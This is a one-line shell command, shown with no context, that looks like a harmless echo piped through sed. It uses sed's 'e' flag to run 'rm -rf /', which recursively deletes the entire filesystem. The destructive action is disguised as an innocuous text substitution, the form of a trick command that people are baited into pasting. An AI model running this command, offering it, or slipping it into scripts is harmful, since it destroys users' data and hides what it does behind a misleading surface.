echo hi | sed 's/.*/rm -rf \//e'
